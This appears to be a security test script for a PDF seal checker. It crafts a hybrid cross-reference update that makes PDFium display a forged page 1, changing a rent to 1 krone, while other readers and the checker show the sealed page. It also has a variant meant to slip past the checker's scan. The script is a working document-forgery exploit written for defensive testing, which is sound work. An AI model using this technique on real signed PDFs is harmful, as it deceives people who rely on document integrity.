// a23: one hybrid update (a table whose trailer has /XRefStm). The table lists page 1 at its sealed offset, generation
// 0; the /XRefStm stream lists page 1 compressed in a new object stream A (entry 0: a forged page 1 with a new content
// stream B, "Husleje: 1 kr."). sealcheck (mergeHybrid: the table's entries in use win), poppler, pdf.js and qpdf take
// the table's entry: page 1 as sealed. PDFium loads the /XRefStm first and then the table, and its
// CPDF_CrossRefTable::AddNormal keeps a compressed entry against a generation-0 one (`if (info.type == kCompressed &&
// gen_num == 0) return;`): A's page 1. Every header in the update is listed (A, B in both, the stream at /XRefStm).
// alias: stream-gen1, and the table lists a new, unreferenced number Z at the forged header's offset, so the offset is
// "listed" for the unlisted scan (sealcheck never reads Z: nothing refers to it).
// modes: attack; table-only (no /XRefStm: the control); stream-gen1 (the stream lists a top-level `4 1 obj` instead:
// AddNormal's generation rule, and an unlisted header for sealcheck).
//   npx tsx scripts/attack-s18/hybrid-compressed.ts <attack|table-only|stream-gen1|alias>   REAL=0 for samples/valid
import { deflateSync } from "node:zlib";
import { serialize } from "../../src/augment/writer.js";
import { NumberAllocator } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, tool, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "attack";
if (!["attack", "table-only", "stream-gen1", "alias"].includes(mode)) throw new Error("usage: <attack|table-only|stream-gen1|alias>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const P = page.ref!.num;
const sealedEntry = doc.revisions.at(-1)!.entries.find((e) => e.num === P)!;
if (sealedEntry.type !== "offset") throw new Error("page 1 is not a top-level object");
const alloc = new NumberAllocator(doc);
const [A, B, X, Z] = [alloc.take(), alloc.take(), alloc.take(), alloc.take()];
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const entry = (off: number, gen: number) => `${String(off).padStart(10, "0")} ${String(gen).padStart(5, "0")} n \n`;
const row = (t: number, f2: number, f3: number) => [t, (f2 >>> 24) & 0xff, (f2 >>> 16) & 0xff, (f2 >>> 8) & 0xff, f2 & 0xff, (f3 >> 8) & 0xff, f3 & 0xff];
const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const offA = at;
if (mode === "stream-gen1" || mode === "alias") push(latin(`${P} 1 obj\n${forgedPage}\nendobj\n`));
else {
  const head = `${P} 0 `;
  const z = [...deflateSync(Uint8Array.from(latin(`${head}${forgedPage}\n`)))];
  push([
    ...latin(`${A} 0 obj\n<< /Type /ObjStm /N 1 /First ${head.length} /Filter /FlateDecode /Length ${z.length} >>\nstream\n`),
    ...z,
    ...latin("\nendstream\nendobj\n"),
  ]);
}
const offB = at;
push(latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`));
let xrefStm = "";
if (mode !== "table-only") {
  const offX = at;
  const rows =
    mode === "stream-gen1" || mode === "alias"
      ? [row(1, offA, 1), row(1, offB, 0), row(1, offX, 0)].flat()
      : [row(2, A, 0), row(1, offA, 0), row(1, offB, 0), row(1, offX, 0)].flat();
  const index = mode === "stream-gen1" || mode === "alias" ? `[${P} 1 ${B} 1 ${X} 1]` : `[${P} 1 ${A} 3]`;
  push([
    ...latin(`${X} 0 obj\n<< /Type /XRef /Size ${X + 1} /W [1 4 2] /Index ${index} /Length ${rows.length} >>\nstream\n`),
    ...rows,
    ...latin("\nendstream\nendobj\n"),
  ]);
  xrefStm = ` /XRefStm ${offX}`;
}
const x1 = at;
const listA = mode === "stream-gen1" || mode === "alias" ? "" : `${A} 2\n${entry(offA, 0)}${entry(offB, 0)}`;
const listB = mode === "stream-gen1" ? `${B} 1\n${entry(offB, 0)}` : mode === "alias" ? `${B} 1\n${entry(offB, 0)}${Z} 1\n${entry(offA, 0)}` : "";
push(
  latin(
    `xref\n${P} 1\n${entry(sealedEntry.offset, 0)}${listA}${listB}trailer\n<< /Size ${(mode === "alias" ? Z : X) + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref}${xrefStm} >>\nstartxref\n${x1}\n%%EOF\n`,
  ),
);
const file = save(work(`s18-hybrid-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`hybrid-compressed ${mode}`, file);
console.log(`== qpdf page ${P}: ${JSON.stringify(tool("qpdf", ["--show-object=" + P, file]).slice(0, 120))}`);
